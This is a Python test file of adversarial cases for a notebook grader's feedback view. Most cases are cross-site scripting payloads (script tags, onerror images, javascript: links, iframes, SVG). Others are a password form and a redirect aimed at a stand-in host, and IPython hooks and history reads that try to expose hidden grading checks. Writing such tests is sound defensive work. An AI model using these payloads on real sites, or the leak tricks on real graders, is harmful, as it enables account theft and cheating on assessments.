"""What other people see: the feedback must run nothing in a browser, and tell nothing that is the coach's."""

from __future__ import annotations

from collections.abc import Callable

from nbformat.v4 import new_markdown_cell

from .case import ACTIVE, FLAGGED, REFUSED, Case, Hand, answer, beside, both, cell, changed, first


def shows(name: str, what: str, arm: Callable[[Hand], None], shown: str = ACTIVE) -> Case:
    """A case with right answers and something to show."""
    return Case(name, what, "showing", arm, (REFUSED, FLAGGED), shown=shown)


def _display(kind: str, text: str) -> Callable[[Hand], None]:
    return first(f"from IPython.display import display\ndisplay({{{kind!r}: {text!r}}}, raw=True)")


def _markdown(text: str) -> Callable[[Hand], None]:
    return changed(lambda notebook: notebook.cells.insert(0, new_markdown_cell(text, id="own")))


CASES = (
    shows("script", "an output with a script", _display("text/html", "<b>hi</b><script>harm()</script>")),
    shows("picture that fails", "an output with a picture whose failing runs a script", _display("text/html", "<img src=x onerror=harm()>")),
    shows("broken tag", "an output whose tags are broken so that filters misread them", _display("text/html", "<svg/onload=harm()//<<img src=x onerror=harm()//>")),
    shows("SVG", "a drawing with a script in it", _display("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='harm()'><script>harm()</script></svg>")),
    shows("JavaScript", "an output that is JavaScript", first("from IPython.display import Javascript, display\ndisplay(Javascript('harm()'))")),
    shows("frame", "an output with a frame", _display("text/html", "<iframe src='javascript:harm()'></iframe>")),
    shows("page in a frame", "an output with a page inside a frame", _display("text/html", "<iframe srcdoc='<script>harm()</script>'></iframe>")),
    shows("form", "an output with a form that asks for a password", _display("text/html", "<form action='//harm.example/harm'><input name=password></form>")),
    shows("other page", "an output that leads the browser to another page", _display("text/html", "<meta http-equiv=refresh content='0;url=//harm.example/harm'>")),
    shows("style", "an output with a style sheet that hides the true score", _display("text/html", "<style>body {display: none; --x: 'harm'}</style>")),
    shows("layer", "an output laid over the page, with another score on it", _display("text/html", "<div style='position:fixed;top:0;left:0;background:white' data-x='harm'>100 of 100</div>")),
    shows("picture from elsewhere", "an output with a picture that tells a server who opened it", _display("text/html", "<img src='http://harm.example/harm.png'>")),
    shows("object", "an output with an object to load", _display("text/html", "<object data='javascript:harm()'></object><embed src='//harm.example/harm'>")),
    shows("link", "an output with a link that runs a script", _display("text/html", "<a href='javascript:harm()'>solution</a>")),
    shows("hidden link", "a link that runs a script, written so that filters miss it", _display("text/html", "<a href='java&#10;script:harm()'>solution</a>")),
    shows("link in text", "a text cell with a link that runs a script", _markdown("[solution](javascript:harm())")),
    shows("script in text", "a text cell with a script", _markdown("hello <script>harm()</script>")),
    shows("picture in text", "a text cell with a picture whose failing runs a script", _markdown("hello <img src=x onerror=harm()>")),
    shows("script in an answer", "the written answer has a script", cell("words", lambda one: one.update(source="fine <script>harm()</script>"))),
    shows("markdown output", "an output in Markdown with a script", _display("text/markdown", "hello <script>harm()</script>")),
    shows("LaTeX output", "an output in LaTeX with a script", _display("text/latex", "$x$<script>harm()</script>")),
    shows("script in an error", "an error whose name and text hold a script",
          first("E = type('<img src=x onerror=harm()>', (Exception,), {})\nraise E('<script>harm()</script>')")),
    shows("script in a stream", "printed words that hold a script and codes for colors", first("print('\\x1b[31m<script>harm()</script>\\x1b[0m')")),
    shows("script in the title", "the notebook's title holds a script", changed(lambda notebook: notebook.metadata.update(title="</title><script>harm()</script>"))),
    shows("script in the language", "the notebook's language holds a script",
          changed(lambda notebook: notebook.metadata.update(language_info={"name": "</script><script>harm()</script>", "pygments_lexer": "<script>harm()</script>"}))),
    shows("script in a widget", "the state of a widget holds a script",
          changed(lambda notebook: notebook.metadata.update(widgets={"application/vnd.jupyter.widget-state+json": {
              "version_major": 2, "version_minor": 0, "state": {"a": {"model_name": "HTMLModel", "model_module": "x", "state": {"value": "</script><script>harm()</script>"}}}}}))),
    shows("hidden checks in feedback", "an honest submission: does its feedback show the hidden checks?", first("1"), "hidden-7491"),
    shows("mark scheme in feedback", "an honest submission: does its feedback show how the coach marks?", first("1"), "MARKS-5583"),
    Case("hidden check in an error", "a wrong answer: does the error show the hidden check?", "showing",
         answer("mean", "mean = lambda x: sum(x) / len(x) if len(x) > 5 else 0"), (REFUSED, FLAGGED), least=4, most=4, shown="hidden-7491"),
    shows("hook that tells", "a hook prints each check before it runs",
          first("get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))"), "hidden-7491"),
    shows("hook that tells afterwards", "a hook prints each check turned around after it ran, in the learner's next cell",
          first("get_ipython().events.register('post_run_cell', lambda result: print(result.info.raw_cell[::-1]))"), "1947-neddih"),
    shows("history", "a cell at the end prints all that ran", changed(lambda notebook: notebook.cells.append(
        {"cell_type": "code", "id": "own", "metadata": {}, "outputs": [], "execution_count": None, "source": "print(repr(In)[::-1])"})), "1947-neddih"),
    shows("kept for later", "the tested function writes the check that calls it into a page beside the notebook, which releasing feedback hands out",
          answer("mean", "def mean(x):\n    open('check.html', 'w').write(In[-1])\n    return sum(x) / len(x)"), "hidden-7491"),
    shows("page left beside", "a cell leaves a page beside the notebook, and the written answer links to it",
          both(first("open('late-page.htm', 'w').write('<script>harm()</script>')"),
               cell("words", lambda one: one.update(source="See [my results](late-page.htm).")))),
    shows("page handed in", "a page beside the notebook, under another spelling", beside({"PAGE.HTM": "<script>harm()</script>"})),
    shows("printed inputs", "an honest habit: the tested function prints what it is called with",
          answer("mean", "def mean(x):\n    print(x)\n    return sum(x) / len(x)", instead=True), "[5, 8, 14]"),
)  # fmt: skip
